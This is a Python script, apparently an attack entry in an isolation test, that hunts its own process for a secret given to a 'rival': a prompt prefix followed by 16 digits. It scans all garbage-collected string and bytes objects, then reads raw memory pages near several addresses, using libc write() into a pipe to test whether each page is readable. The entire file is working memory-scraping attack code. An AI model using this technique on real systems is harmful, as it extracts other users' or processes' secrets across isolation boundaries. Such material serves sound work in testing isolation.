"""Searches its memory for what a rival was told: objects, and every page it can find."""

import ctypes
import gc
import os
import re

target = ""  # the rival's question began so
PAGE = 4096


def pages(around, how_many):
    """Those of the pages around an address that are there: the kernel copies them, or says it cannot."""
    write = ctypes.CDLL(None).write
    out, into = os.pipe()
    first = around // PAGE * PAGE - how_many // 2 * PAGE
    for at in range(first, first + how_many * PAGE, PAGE):
        if at > 0 and write(into, ctypes.c_void_p(at), ctypes.c_size_t(PAGE)) == PAGE:
            yield os.read(out, PAGE)


def attack():
    secret = re.compile(target.encode() + rb":(\d{16})")
    for thing in gc.get_objects():
        if isinstance(thing, (str, bytes)):
            found = secret.search(thing.encode("utf-8", "replace") if isinstance(thing, str) else thing)
            if found:
                return f"found {found[0]!r} among the objects"
    libc = ctypes.CDLL(None)
    libc.sbrk.restype = ctypes.c_void_p
    places = (id(object()), id(os), ctypes.addressof(ctypes.create_string_buffer(1 << 20)), libc.sbrk(0))
    for place in places:
        for page in pages(place, 4096):
            found = secret.search(page)
            if found:
                return f"found {found[0]!r} in memory"
    return None
